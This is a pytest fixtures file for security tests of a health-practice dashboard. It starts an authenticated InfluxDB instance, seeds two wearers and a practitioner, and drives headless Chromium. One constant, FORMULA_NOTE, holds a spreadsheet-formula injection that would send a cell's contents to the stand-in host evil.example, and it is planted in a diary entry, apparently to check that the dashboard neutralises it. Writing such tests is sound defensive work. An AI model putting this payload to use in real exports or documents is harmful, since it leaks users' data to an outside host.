"""Fixtures for the attacker's tests: a practice on a real `influxd` with authentication on,
its dashboard started as a user starts it, and headless Chromium (tests/dashboard's fixtures).

One practice serves the whole suite (set up once: two wearers with a few days each, written
with their own credentials); tests that change accounts use practitioners of their own, so
they do not disturb each other. When a test fails, the dashboard's output is printed.
"""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from backcoach.processing.types import DiaryEntry
from tests import clock
from tests.dashboard.conftest import CHROMIUM, browser, playwright  # noqa: F401 (fixtures)
from tests.dashboard.serve import free_port, start_dashboard, stop, wait_healthy
from tests.storage import practice_world

WEARERS = ("anna", "ben")
PASSWORD = "correct-horse-battery-42"
FORMULA_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
START_TIMEOUT_S = 60


@dataclass
class Site:
    """The practice: its world (server, folder, wearers' tokens) and its running dashboard."""

    world: practice_world.PracticeWorld
    log_path: Path
    port: int = 0
    proc: subprocess.Popen | None = None

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def start(self) -> None:
        self.port = free_port()
        self.proc = start_dashboard(
            self.world.env(), self.log_path, "--practice", "--port", str(self.port)
        )
        wait_healthy(self.url, self.proc, START_TIMEOUT_S)

    def stop(self) -> None:
        if self.proc is not None:
            stop(self.proc)
            self.proc = None

    def restart(self) -> None:
        """Stop the dashboard and start it again (a new process on a new port)."""
        self.stop()
        self.start()

    def log(self) -> str:
        return self.log_path.read_text(errors="replace")

    def cli(self, *args: str, admin: bool = False, **env: str) -> subprocess.CompletedProcess:
        """`backcoach ARGS` on the practice's machine, as its administrator runs it."""
        full = {**os.environ, **self.world.env(admin=admin), **env}
        return subprocess.run(
            [sys.executable, "-m", "backcoach", *args],
            env=full,
            capture_output=True,
            text=True,
            timeout=120,
        )

    def add_practitioner(self, username: str, password: str = PASSWORD, name: str = "") -> str:
        """`backcoach practice add-practitioner` (its output)."""
        args = ["practice", "add-practitioner", username] + (["--name", name] if name else [])
        done = self.cli(*args, BACKCOACH_PRACTITIONER_PASSWORD=password)
        assert done.returncode == 0, done.stderr
        return done.stdout


@pytest.fixture(scope="session")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """The practice with wearers anna and ben (three days each, anna's diary holds a formula)."""
    root = tmp_path_factory.mktemp("security-practice")
    with practice_world.running(root) as world:
        practice_world.add_wearers(world, WEARERS)
        yesterday = clock.yesterday(practice_world.TZ)
        practice_world.fill(world, WEARERS, yesterday, days=3)
        store = world.wearer_store("anna", root / "collectors" / "anna-diary")
        try:
            store.write_diary(DiaryEntry(yesterday.isoformat(), 4, FORMULA_NOTE))
            store.flush()
        finally:
            store.close()
        site = Site(world, root / "dashboard.log")
        site.add_practitioner("jdevries", name="J. de Vries")
        site.start()
        try:
            yield site
        finally:
            site.stop()


@pytest.fixture
def show_log_on_failure(site: Site, request: pytest.FixtureRequest) -> Iterator[None]:
    yield
    rep = getattr(request.node, "rep_call", None)
    if rep is None or rep.failed:
        print(f"--- dashboard log ---\n{site.log()[-10_000:]}")


@pytest.hookimpl(wrapper=True, tryfirst=True)
def pytest_runtest_makereport(item: pytest.Item, call: pytest.CallInfo):
    rep = yield
    setattr(item, f"rep_{rep.when}", rep)
    return rep


needs_chromium = pytest.mark.skipif(
    not CHROMIUM.exists(), reason="needs Debian's chromium at /usr/bin"
)
